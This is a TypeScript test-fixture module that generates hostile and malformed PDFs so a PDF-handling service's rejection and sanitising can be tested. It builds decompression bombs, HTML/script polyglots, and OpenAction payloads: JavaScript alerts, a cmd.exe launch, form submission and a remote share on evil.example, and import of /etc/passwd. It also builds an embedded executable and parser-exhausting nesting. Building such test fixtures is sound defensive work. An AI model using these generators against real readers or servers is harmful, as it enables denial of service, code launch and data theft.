import { deflateSync } from 'node:zlib'

/** An object of a PDF: its dictionary, and the bytes of its stream. */
interface Part {
  dict: string
  stream?: Buffer
}
const part = (dict: string, stream?: Buffer): Part => (stream ? { dict, stream } : { dict })
const latin = (text: string) => Buffer.from(text, 'latin1')

/** A PDF of these objects, numbered from 1, which is the catalog, with a table of them and more entries in the trailer. */
function pdfOf(parts: readonly Part[], trailer = ''): Buffer {
  const chunks: Buffer[] = [latin('%PDF-1.7\n')]
  const offsets: number[] = []
  let at = chunks[0]!.length
  const add = (chunk: Buffer) => {
    chunks.push(chunk)
    at += chunk.length
  }
  for (const [index, { dict, stream }] of parts.entries()) {
    offsets.push(at)
    const length = stream ? dict.replace('<<', `<</Length ${stream.length}`) : dict
    add(latin(`${index + 1} 0 obj\n${length}\n`))
    if (stream) add(Buffer.concat([latin('stream\n'), stream, latin('\nendstream\n')]))
    add(latin('endobj\n'))
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const start = at
  const entries = `<</Size ${parts.length + 1}/Root 1 0 R${trailer}>>`
  add(
    latin(
      `xref\n0 ${parts.length + 1}\n0000000000 65535 f \n${table}trailer\n${entries}\nstartxref\n${start}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(chunks)
}

const catalog = (more = '') => part(`<</Type/Catalog/Pages 2 0 R${more}>>`)
const pages = part('<</Type/Pages/Kids[3 0 R]/Count 1>>')
const page = (more = '') => part(`<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]${more}>>`)
const plain = (more: { catalog?: string; page?: string; trailer?: string; parts?: Part[] } = {}) =>
  pdfOf([catalog(more.catalog), pages, page(more.page), ...(more.parts ?? [])], more.trailer)

const zeros = (mebibytes: number) => deflateSync(Buffer.alloc(mebibytes * 1024 * 1024))
/** A stream of objects that is some hundred KiB in the file and this much in memory. */
const bomb = (mebibytes: number, filters = '/FlateDecode', times = 1) => {
  let bytes = zeros(mebibytes)
  for (let at = 1; at < times; at++) bytes = deflateSync(bytes)
  return plain({ parts: [part(`<</Type/ObjStm/N 1/First 4/Filter ${filters}>>`, bytes)] })
}

/** Decompresses to 400 MiB. */
export const bombs = () => [bomb(400), bomb(400, '[/FlateDecode/FlateDecode]', 2)]

const action = (text: string) => plain({ catalog: `/OpenAction<<${text}>>` })
const nested = (open: string, close: string, depth: number) =>
  plain({ catalog: `/Deep ${open.repeat(depth)}${close.repeat(depth)}` })
const table = (text: string) => latin(`%PDF-1.7\n${text}\nstartxref\n9\n%%EOF\n`)

/** PDFs that must be refused, by what they are. */
export function unfitPdfs(): [string, Buffer][] {
  const whole = plain()
  return [
    ...[1, 2, 3, 4, 5, 6, 7].map((eighths): [string, Buffer] => [
      `${eighths}/8 of a PDF`,
      whole.subarray(0, (whole.length * eighths) / 8),
    ]),
    ['a page of HTML', latin('<!doctype html><script>alert(1)</script>%PDF-1.7 startxref 1 %%EOF')],
    ['HTML before the header', Buffer.concat([latin('<html><script>alert(1)</script>\n'), whole])],
    ['a script before the header', Buffer.concat([latin('#!/bin/sh\nexit\n'), whole])],
    ['a picture before the header', Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), whole])],
    ['an archive behind the end', Buffer.concat([whole, latin('PK\x03\x04'), Buffer.alloc(4_096)])],
    ['rubbish', table('rubbish '.repeat(500))],
    ['no objects', table('xref\n0 0\ntrailer\n<<>>')],
    ['a root that is not there', pdfOf([part('<</Type/Nothing>>')])],
    ['no pages', pdfOf([catalog(), part('<</Type/Pages/Kids[]/Count 0>>')])],
    ['an encrypted one', plain({ trailer: '/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O(x)/U(y)>>' })],
    ['300,000 objects', table('1 0 obj\nnull\nendobj\n'.repeat(300_000))],
    ['objects that decompress to 64 MiB', bomb(64)],
    ['objects that decompress twice', bomb(64, '[/FlateDecode/FlateDecode]', 2)],
  ]
}

/** PDFs that do something when a careless reader opens them, or that a careless parser never finishes; whoever stores them serves them inert. */
export function activePdfs(): [string, Buffer][] {
  const file = part('<</Type/EmbeddedFile/Subtype/application#2Fx-msdownload>>', latin('MZ\x90 not a program'))
  const attached = '<</Type/Filespec/F(invoice.exe)/EF<</F 4 0 R>>>>'
  return [
    ['JavaScript when it opens', action('/S/JavaScript/JS(app.alert\\(1\\))')],
    [
      'JavaScript by name',
      plain({ catalog: '/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>' }),
    ],
    ['a program to launch', action('/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>')],
    ['an address to open', action('/S/URI/URI(javascript:alert\\(1\\))')],
    ['another file to open', action('/S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]')],
    ['an embedded file to open', action('/S/GoToE/T<</R/C/N(x)>>')],
    ['a form to send', action('/S/SubmitForm/F(https://evil.example/)')],
    ['data to import', action('/S/ImportData/F(/etc/passwd)')],
    ['an embedded program', plain({ catalog: `/Names<</EmbeddedFiles<</Names[(x)${attached}]>>>>`, parts: [file] })],
    [
      'a form of XFA',
      plain({ catalog: '/AcroForm<</XFA 4 0 R/Fields[]>>', parts: [part('<<>>', latin('<xdp:xdp/>'))] }),
    ],
    ['an act of the page', plain({ page: '/AA<</O<</S/JavaScript/JS(x)>>>>' })],
    ['a film', plain({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })],
    ['HTML in its text', plain({ trailer: '/Info<</Title(<script>alert\\(1\\)</script>)>>' })],
    ['HTML behind its header', Buffer.concat([latin('%PDF-1.7\n<script>alert(1)</script>\n'), plain().subarray(9)])],
    ['a table that follows itself', plain({ trailer: '/Prev 9' })],
    ['pages that hold themselves', pdfOf([catalog(), part('<</Type/Pages/Kids[2 0 R]/Count 1>>')])],
    ['a length that names itself', plain({ parts: [part('<</Length 4 0 R>>'), part('5 0 R')] })],
    ['lists in lists', nested('[', ']', 20_000)],
    ['dictionaries in dictionaries', nested('<</A', '>>', 20_000)],
    ['a billion pages', pdfOf([catalog(), part('<</Type/Pages/Kids[3 0 R]/Count 1000000000>>'), page()])],
    [
      'a billion objects in a stream',
      plain({ parts: [part('<</Type/ObjStm/N 1000000000/First 4>>', latin('1 0 null'))] }),
    ],
    ['a number of 100,000 digits', plain({ catalog: `/A ${'9'.repeat(100_000)}` })],
    ['a thousand filters', plain({ parts: [part(`<</Filter[${'/FlateDecode'.repeat(1_000)}]>>`, zeros(1))] })],
  ]
}
